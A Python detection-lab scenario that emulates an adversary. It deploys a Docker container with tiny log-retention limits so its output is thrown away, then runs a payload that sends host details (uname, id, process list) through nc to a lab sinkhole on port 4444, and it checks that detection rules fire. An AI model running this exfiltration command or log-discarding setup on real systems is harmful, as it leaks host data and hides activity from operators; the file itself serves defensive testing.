"""A payload runs with json-file options so small that the log keeps almost nothing."""

from __future__ import annotations

from lab import Lab, LabError, Logging, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.variants import Dimension

# max-size x max-file, every one far below the platform's 1 MiB minimum (log_retention.yaml).
RETENTION = {"1k-x1": ("1k", "1"), "64k-x2": ("64k", "2"), "300k-x3": ("300k", "3")}


class DiscardingLogOptions(Scenario):
    id = "docker.logging.discarding-log-options"
    title = "Payload runs with a local log sized to throw its output away (1 KB, one file)"
    kind = Kind.ADVERSARY
    techniques = ("T1562.001", "T1610")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.docker.logging-discarded",), within_s=15, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "Its payload really sends host details with nc to the sinkhole's port 4444 on the lab internet, "
            "outside the egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "The same connection really leaves the container for the sinkhole on the lab internet, seen on the "
            "wire, outside the egress allowlist.",
    })
    twin = "docker.logging.log-rotation"
    tags = ("logging", "defense-evasion")
    dimensions = (
        Dimension("driver", ("json-file", "local"), doc="the local driver whose rotation throws output away"),
        Dimension("retention", tuple(RETENTION), doc="max-size and max-file: one 1 KB file, two of 64 KB, or "
                  "three of 300 KB (900 KB, just under the platform's minimum)"),
    )
    description = (
        "Deploys a container with the json-file driver and `max-size=1k`, `max-file=1`: the engine "
        "keeps at most 1 KB and truncates the file in place whenever it fills. The payload prints "
        "about 2.7 MB and sends host details to the sinkhole's port 4444. The scenario checks the "
        "sinkhole got the data and that the log file on the host holds far less than was printed. "
        "Variants use the local driver, or keep two files of 64 KB or three of 300 KB."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        driver = str(self.variant["driver"])
        size, files = RETENTION[str(self.variant["retention"])]
        # About 2.7 MB of output: more than any of these logs keeps, so rotation really discards.
        payload = (
            "head -c 2000000 /dev/urandom | base64; "
            f"{{ uname -a; id; ps -eo pid,comm; }} | nc -w 2 -q 1 {sink} 4444; sleep 60"
        )
        options = {"max-size": size, "max-file": files}
        if driver == "local":
            options["compress"] = "false"  # the local driver refuses compression with a single file
        lab.action(f"deploy a container whose log keeps at most {size} x {files}")
        worker = lab.deploy(WorkloadSpec(role="worker", networks=("lan", "inet"), command=("sh", "-c", payload),
                                         logging=Logging(driver=driver, options=options)))
        lab.wait_for(lambda: bool(lab.sinkhole_records(peer=worker.addresses["inet"])), timeout=15,
                     what="the payload's data to reach the sinkhole")
        log_path = lab.log_path(worker)
        try:
            kept = log_path.stat().st_size if log_path is not None else 0
        except FileNotFoundError:  # rotating this very moment (a --respond run met it once: 1 KB, one file)
            kept = 0
        if kept > 1024 * 1024:
            raise LabError(f"the log kept {kept} bytes: the options did not discard output")
